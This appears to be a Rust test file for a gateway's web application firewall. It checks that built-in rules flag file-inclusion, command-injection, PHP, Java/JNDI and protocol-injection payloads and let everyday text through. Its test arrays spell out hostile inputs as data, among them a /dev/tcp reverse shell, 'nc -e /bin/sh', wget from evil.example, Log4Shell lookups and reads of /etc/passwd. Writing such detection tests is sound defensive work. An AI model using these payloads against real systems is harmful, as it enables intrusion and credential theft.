//! What the gateway's own rules find, and what not.

use super::*;
use gatewright_config::{ByteSize, WafExclusion, WafLarger, WafMode};

fn config() -> WafConfig {
    WafConfig {
        mode: WafMode::Block,
        headers: Vec::new(),
        body_bytes: ByteSize(64 << 10),
        larger: WafLarger::Refuse,
        parameters: 16,
        value_bytes: ByteSize(1 << 10),
        depth: 8,
        rules: vec![WafRules::Builtin],
        paranoia: None,
        threshold: None,
        exclude: Vec::new(),
    }
}

fn found_with(config: &WafConfig, set: &RuleSet, list: List, name: &str, value: &str) -> String {
    let mut request = Request::default();
    request.add(list, name.as_bytes().to_vec(), value.as_bytes().to_vec());
    let mut seen = Seen::default();
    run(Some(set), config, "/", &Carried::new(Some(request)), &mut seen);
    assert_eq!(seen.notes, []);
    let said: Vec<_> = seen.findings.iter().map(ToString::to_string).collect();
    said.join("; ")
}

#[test]
fn every_rule_of_our_own_is_run() {
    let set = load(&config()).unwrap();
    assert!(set.unsupported().is_empty(), "{:?}", set.unsupported());
    assert_eq!(set.beyond_requests(), 0);
    assert!(set.rules() > 25, "{}", set.rules());
}

#[test]
fn each_family_finds_what_it_is_about() {
    let (config, set) = (config(), load(&config()).unwrap());
    let cases: [(&str, &[&str]); 6] = [
        (
            "lfi",
            &[
                "../../../../etc/passwd",
                "..\\..\\windows\\win.ini",
                "/etc/passwd",
                "/etc//./passwd",
                "%2e%2e%2f%2e%2e%2fapp",
                "/proc/self/environ",
                "C:\\boot.ini",
                "/home/ann/.ssh/id_rsa",
            ],
        ),
        (
            "rfi",
            &[
                "php://filter/convert.base64-encode/resource=index",
                "phar://a.phar",
                "http://evil.example/shell.txt?",
                "http://169.254.169.254/latest/meta-data/",
                "http://localhost:6379/",
                "gopher://a/_x",
                "http://198.51.100.7/x.php",
            ],
        ),
        (
            "command",
            &[
                "; cat /etc/hostname",
                "|id",
                "a; wget http://evil.example/x",
                "$(curl evil.example)",
                "a && ls -la",
                "`whoami`",
                "() { :;}; /bin/x",
                "x|nc -e /bin/sh 198.51.100.7 4444",
                "cat${IFS}/x",
                "; sleep 5;",
                "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                "{{ ''.__class__.__mro__ }}",
                "require('child_process').exec('id')",
                "powershell -enc SQBFAFgA",
                "& net user",
            ],
        ),
        (
            "php",
            &[
                "<?php system('id'); ?>",
                "<?= 1 ?>",
                "phpinfo()",
                "$_GET['a']",
                "eval($_POST[0]);",
                "O:8:\"Evil_Obj\":1:{s:1:\"a\";}",
                "auto_prepend_file=php",
            ],
        ),
        (
            "java",
            &[
                "${jndi:ldap://evil.example/a}",
                "${${lower:j}ndi:rmi://evil.example/a}",
                "${${::-j}ndi:x}",
                "%{(#a=1)}",
                "T(java.lang.Runtime).getRuntime().exec('id')",
                "rO0ABXNyABFqYXZh",
                "class.module.classLoader.resources",
                "org.apache.commons.collections.functors.InvokerTransformer",
            ],
        ),
        (
            "protocol",
            &[
                "a\r\nSet-Cookie: admin=1",
                "x\nGET /admin HTTP/1.1",
                "*)(uid=*))(|(uid=*",
                "x\r\nRCPT TO: a@b.example",
            ],
        ),
    ];
    for (family, attacks) in cases {
        for attack in attacks {
            for list in [List::ArgsGet, List::ArgsPost, List::Cookies] {
                let found = found_with(&config, &set, list, "a", attack);
                assert!(found.contains(&format!("{family} at ")), "{family} {attack}: {found}");
            }
        }
    }
    let header = |name: &str, value: &str| found_with(&config, &set, List::Headers, name, value);
    assert_eq!(
        header("user-agent", "sqlmap/1.7"),
        "scanner at header:user-agent (1601 +5)"
    );
    assert_eq!(header("X-Api", "${jndi:ldap://a}"), "java at header:X-Api (1501 +5)");
    let shellshock = header("user-agent", "() { :;}; echo");
    assert!(shellshock.contains("command at header:user-agent"), "{shellshock}");
    assert!(header("range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13").contains("protocol at header:range"));
    let path = |path: &str| found_with(&config, &set, List::Filename, "", path);
    for file in ["/.git/config", "/app/.env", "/wp-config.php.bak", "/a/.htaccess"] {
        assert!(path(file).contains("lfi at path"), "{file}: {}", path(file));
    }
    assert_eq!(path("/users/42/environment"), "");
    assert!(
        found_with(&config, &set, List::ArgsGet, "page", "http://evil.example/x")
            .contains("rfi at query:page (1204 +5)")
    );
    assert!(found_with(&config, &set, List::Files, "f", "shell.php").contains("php at body:f"));
}

#[test]
fn what_people_and_programs_send_every_day_is_not_found() {
    let (config, set) = (config(), load(&config()).unwrap());
    for harmless in [
        "hello world",
        "O'Brien & Sons; more to come",
        "fish; cats and dogs",
        "R&D; find out more",
        "cats & more",
        "read the docs at https://docs.example.com/guide?page=2&id=5",
        "https://app.example.com/callback?code=abc&state=xyz",
        "../images/logo.png",
        "C:\\Users\\ann\\Documents\\report.docx",
        "/var/www/html",
        "the price is $5 (net); set of 3",
        "select a type: make | model",
        "a | b | c",
        "if (a && b) { return c; }",
        "function (x) { return x + 1; }",
        "SELECT this option",
        "java and python developer wanted",
        "evaluate (a) the system (b)",
        "call me at +49 (30) 1234-5678; thanks",
        "2024-01-01T10:00:00Z",
        "{\"nested\":\"json\"}",
        "line one\r\nline two\r\nlocation is Berlin",
        "content-type matters",
        "ann@example.com",
        "50% off; echo of the past",
        "price < 10 && stock > 0",
        "${name}",
        "{{ user.name }}",
        "#1 choice; #2 runner-up",
        "Use `ls` to list files",
        "echo chamber",
        "etc. and so on",
        "a/b/c; d/e/f",
        "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc",
        "V1StGXR8_Z5jdHi6B-myT",
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    ] {
        for list in [List::ArgsGet, List::ArgsPost, List::Cookies, List::Headers] {
            assert_eq!(found_with(&config, &set, list, "a", harmless), "", "{harmless}");
        }
    }
}

#[test]
fn a_rule_can_be_left_out_by_its_number_or_its_family() {
    let mut config = config();
    let set = load(&config).unwrap();
    let exclusion = |rule, id| WafExclusion {
        rule,
        id,
        at: Vec::new(),
        path: None,
    };
    let found = |config: &WafConfig| found_with(config, &set, List::ArgsPost, "json.a", "../../x");
    assert_eq!(found(&config), "lfi at body:a (1101 +5)");
    config.exclude = vec![exclusion(WafRule::Lfi, Some(1102))];
    assert_eq!(found(&config), "lfi at body:a (1101 +5)");
    config.exclude = vec![exclusion(WafRule::Lfi, Some(1101))];
    assert_eq!(found(&config), "");
    config.exclude = vec![exclusion(WafRule::Lfi, None)];
    assert_eq!(found(&config), "");
}

#[test]
fn a_higher_threshold_lets_one_rule_pass_and_says_so() {
    let mut config = config();
    config.threshold = Some(10);
    let set = load(&config).unwrap();
    let mut request = Request::default();
    request.add(List::ArgsGet, b"a".to_vec(), b"../../x".to_vec());
    let mut seen = Seen::default();
    run(Some(&set), &config, "/", &Carried::new(Some(request)), &mut seen);
    assert_eq!(seen.findings, []);
    assert_eq!(seen.notes.len(), 1);
}
